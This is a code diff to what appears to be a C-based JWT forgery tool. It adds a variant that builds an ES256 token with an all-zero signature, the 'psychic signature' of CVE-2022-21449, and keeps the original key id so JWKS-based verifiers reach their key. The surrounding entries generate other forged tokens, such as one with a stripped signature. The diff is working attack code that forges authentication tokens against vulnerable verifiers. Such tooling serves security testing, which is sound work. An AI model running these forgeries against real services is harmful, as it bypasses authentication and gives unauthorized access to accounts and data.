@@ -188,6 +188,26 @@ hx_forge_hs256(const struct hx_forge_in *in, struct hx_forgery *out, size_t max,
         &s, "alg-es256-header", HX_FORGE_PATH_SELF, false,
         forge_build("{\"alg\":\"ES256\",\"typ\":\"JWT\"}", pa, HX_JWT_SIG_RAW, NULL, NULL, 0, sig),
         "header alg ES256, the genuine HMAC signature kept");
+    {
+        /* ES256 with r = s = 0: a verifier without the range check of
+         * FIPS 186-4 (CVE-2022-21449 in Java) takes it for any message; kid
+         * kept so a JWKS-based verifier reaches its key */
+        json_t *h = json_pack("{s:s, s:s}", "alg", "ES256", "typ", "JWT");
+        const json_t *kid = json_object_get(a.header, "kid");
+        char *htext;
+        if (h != NULL && json_is_string(kid))
+            json_object_set(h, "kid", (json_t *)kid);
+        htext = h != NULL ? json_dumps(h, JSON_COMPACT | JSON_PRESERVE_ORDER) : NULL;
+        json_decref(h);
+        forge_add(&s, "signature-es256-zero", HX_FORGE_PATH_SELF, false,
+                  htext != NULL ? forge_build(htext, pa, HX_JWT_SIG_RAW, NULL, NULL, 0,
+                                              "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+                                              "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
+                                : NULL,
+                  "alg ES256 with an all-zero signature (r = s = 0, the psychic signature "
+                  "of CVE-2022-21449)");
+        free(htext);
+    }
     forge_add(&s, "signature-stripped", HX_FORGE_PATH_SELF, false,
               forge_concat(in->token, si_len + 1, ""),
               "genuine header and payload, signature segment empty");
